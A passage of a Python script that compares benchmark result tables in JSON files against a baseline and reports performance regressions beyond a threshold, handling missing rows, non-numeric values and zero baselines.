    """The numeric prefix of a cell like '25.4 ms' or '6', else None."""
    match = _NUMBER.match(cell)
    return float(match.group(1)) if match else None


def load(path):
    try:
        with open(path, encoding="utf-8") as f:
            return json.load(f)
    except (OSError, json.JSONDecodeError) as error:
        print(f"ERROR: cannot read {path}: {error}")
        return None


def table_key(table):
    return tuple(table.get("headers", []))


def compare_file(name, baseline, current, threshold):
    """Returns a list of regression messages for one bench file."""
    guards = GUARDED_COLUMNS.get(name, [])
    if not guards:
        return []
    problems = []
    current_tables = {table_key(t): t for t in current.get("tables", [])}
    for base_table in baseline.get("tables", []):
        headers = base_table.get("headers", [])
        cur_table = current_tables.get(tuple(headers))
        if cur_table is None:
            problems.append(f"{name}: table {headers} missing from current run")
            continue
        guarded = [
            i
            for i, header in enumerate(headers)
            if any(g in header.lower() for g in guards)
            and not any(marker in header.lower() for marker in EXCLUDED_COLUMN_MARKERS)
        ]
        # Rows are identified by their label cells: everything before the first
        # guarded (data) column. Tables with several label columns — e.g. the
        # fail-over table's (mode, lease timings) — stay unambiguous this way.
        label_len = LABEL_COLUMNS.get(
            name, max(1, min(guarded)) if guarded else 1
        )
        cur_rows = {
            tuple(row[:label_len]): row for row in cur_table.get("rows", []) if row
        }
        for base_row in base_table.get("rows", []):
            if not base_row:
                continue
            label = " / ".join(base_row[:label_len])
            cur_row = cur_rows.get(tuple(base_row[:label_len]))
            if cur_row is None:
                problems.append(f"{name}: row '{label}' missing from current run")
                continue
            for i in guarded:
                if i >= len(base_row) or i >= len(cur_row):
                    continue
                base_value = leading_number(base_row[i])
                cur_value = leading_number(cur_row[i])
                if base_value is None:
                    continue
                # A numeric baseline turning non-numeric (e.g. a fail-over
                # time becoming "never") is a total failure, not a skip.
                if cur_value is None:
                    problems.append(
                        f"{name}: '{label}' / '{headers[i]}' regressed "
                        f"{base_value:g} -> non-numeric '{cur_row[i]}'"
                    )
                    continue
                higher_better = any(
                    g in headers[i].lower() for g in HIGHER_IS_BETTER
                )
                if higher_better:
                    limit = base_value * (1.0 - threshold)
                    regressed = cur_value < limit
                else:
                    limit = base_value * (1.0 + threshold)
                    # Baselines of 0 (e.g. 0 hops) must stay 0: any growth from
                    # a zero baseline is a regression the ratio test cannot see.
                    regressed = cur_value > limit or (
                        base_value == 0 and cur_value > 0
                    )
                if regressed:
                    problems.append(
                        f"{name}: '{label}' / '{headers[i]}' regressed "
                        f"{base_value:g} -> {cur_value:g} "
                        f"(limit {limit:g}, threshold {threshold:.0%})"
                    )
    return problems


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--baseline-dir", required=True)
    parser.add_argument("--current-dir", required=True)
    parser.add_argument("--threshold", type=float, default=0.25)
    parser.add_argument("files", nargs="+")
    args = parser.parse_args()

    failures = []
    for name in args.files:
        baseline = load(f"{args.baseline_dir}/{name}")
        current = load(f"{args.current_dir}/{name}")
        if baseline is None or current is None:
            failures.append(f"{name}: missing or unreadable JSON")
            continue
        problems = compare_file(name, baseline, current, args.threshold)
        if problems:
            failures.extend(problems)
        else:
            print(f"OK: {name} within {args.threshold:.0%} of baseline")

    if failures:
        print()
        for failure in failures:
            print(f"REGRESSION: {failure}")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
